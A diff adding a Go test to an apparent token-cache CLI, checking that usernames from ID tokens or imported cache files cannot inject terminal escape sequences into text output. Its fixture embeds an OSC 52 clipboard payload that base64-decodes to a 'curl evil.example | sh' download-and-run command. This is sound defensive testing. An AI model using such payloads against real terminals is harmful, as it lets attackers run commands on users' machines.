@@ -1,0 +1,48 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// TestReview4_AccountTextCannotDriveTheTerminal: a username comes from an ID token (the
+// provider's preferred_username, upn or email, which some providers let a user choose)
+// or from an imported MSAL document (a colleague's cache file, a synced one), and the
+// text outputs print it to the terminal. An escape sequence in it must not reach the
+// terminal raw: OSC 52 writes the clipboard (the next paste runs the attacker's
+// command), OSC 0 retitles the window, CSI sequences rewrite or hide lines already
+// printed ("removed alice" overwritten by "removed nobody"). The JSON outputs escape
+// control characters already (encoding/json); the text outputs printed them as they
+// came.
+func TestReview4_AccountTextCannotDriveTheTerminal(t *testing.T) {
+	doc, err := os.ReadFile(javaSample)
+	if err != nil {
+		t.Fatal(err)
+	}
+	const evil = `John\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b[2K\rDoe`
+	crafted := strings.Replace(string(doc), `"John Doe"`, `"`+evil+`"`, 1)
+	if crafted == string(doc) {
+		t.Fatal("fixture: the sample's username was not replaced")
+	}
+	path := filepath.Join(t.TempDir(), "crafted.json")
+	if err := os.WriteFile(path, []byte(crafted), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	env := sampleEnv(t.TempDir())
+	if r := runInProcess(t, invocation{args: []string{"cache", "import", path}, env: env}); r.code != exitOK {
+		t.Fatalf("cache import: got %s", r)
+	}
+	for _, args := range [][]string{{"accounts", "list"}, {"logout", "--all"}} {
+		r := runInProcess(t, invocation{args: args, env: env})
+		if r.code != exitOK {
+			t.Fatalf("%v: got %s", args, r)
+		}
+		if out := r.stdout + r.stderr; strings.ContainsAny(out, "\x1b\x07\r") {
+			t.Errorf("%v printed a control character of the username to the terminal: %q", args, out)
+		} else if !strings.Contains(r.stdout, "John") {
+			t.Errorf("%v: stdout %q; want the account listed (escaped)", args, r.stdout)
+		}
+	}
+}
